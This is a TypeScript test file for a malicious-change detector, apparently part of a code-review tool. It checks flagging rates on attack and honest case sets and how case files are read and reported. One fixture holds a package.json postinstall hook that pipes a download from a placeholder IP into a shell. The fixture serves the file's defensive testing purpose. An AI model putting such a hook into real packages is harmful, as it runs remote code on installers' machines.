import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { beforeAll, describe, expect, it } from "vitest";
import { judgeCase, type JudgedCase, measureCases, readCases } from "../../script/eval/cases.ts";
import { type Knowledge, loadKnowledge } from "../../src/review/knowledge.ts";
import { ROOT } from "../architecture/sources.ts";
import { scratchFolder } from "../git/scratch.ts";

let knowledge: Knowledge;
beforeAll(async () => {
  knowledge = await loadKnowledge(ROOT);
});

async function judged(name: string): Promise<JudgedCase[]> {
  const all: JudgedCase[] = [];
  for (const each of readCases(join(ROOT, "test", "unseen", name)))
    all.push(await judgeCase(each, knowledge));
  return all;
}

const idsOf = (all: readonly JudgedCase[]) => all.map(({ of }) => of.id);

describe("cases by authors who had not read the rules", () => {
  it("are attacks of which nine in ten are malicious and nearly all are flagged", async () => {
    const all = await judged("attacks.jsonl");
    const missed = all.filter(({ verdict }) => verdict === "clean");
    const mild = all.filter(({ verdict }) => verdict === "suspicious");
    const told = `clean: ${idsOf(missed).join(", ")}; suspicious: ${idsOf(mild).join(", ")}`;
    expect(missed.length / all.length, told).toBeLessThanOrEqual(0.05);
    expect((missed.length + mild.length) / all.length, told).toBeLessThanOrEqual(0.1);
  }, 240_000);

  it("are honest changes of which none is malicious and hardly one suspicious", async () => {
    const all = await judged("honest.jsonl");
    expect(idsOf(all.filter(({ verdict }) => verdict === "malicious"))).toEqual([]);
    const mild = all.filter(({ verdict }) => verdict === "suspicious");
    expect(mild.length / all.length, idsOf(mild).join(", ")).toBeLessThanOrEqual(0.02);
    expect(idsOf(all.filter(({ complete }) => !complete))).toEqual([]);
  }, 240_000);
});

describe("a file of cases", () => {
  const fileOf = (...lines: string[]) => {
    const file = join(scratchFolder(), "cases.jsonl");
    writeFileSync(file, lines.join("\n"));
    return file;
  };
  const attack = {
    id: "install-pipe",
    language: "document",
    note: "Pipes a download into a shell at install.",
    base: { "README.md": "A library.\n" },
    head: { "package.json": '{"scripts":{"postinstall":"curl -s http://198.51.100.7/a | sh"}}' },
  };

  it("is told case by case, with a table at the end", async () => {
    const said: string[] = [];
    await measureCases(fileOf(JSON.stringify(attack), ""), knowledge, (line) => said.push(line));
    expect(said[0]).toMatch(/^malicious {2}install-pipe {2}\S+\/\S+/);
    expect(said.at(-1)).toBe("all: 1 cases, 1 malicious, 0 suspicious, 0 clean, 0 incomplete");
  });

  it("is refused with the line that is no case and what is wrong there", () => {
    const file = fileOf(JSON.stringify(attack), JSON.stringify({ ...attack, head: 1 }));
    expect(() => readCases(file)).toThrow(/cases\.jsonl:2 is no case:[^]*head/);
  });
});
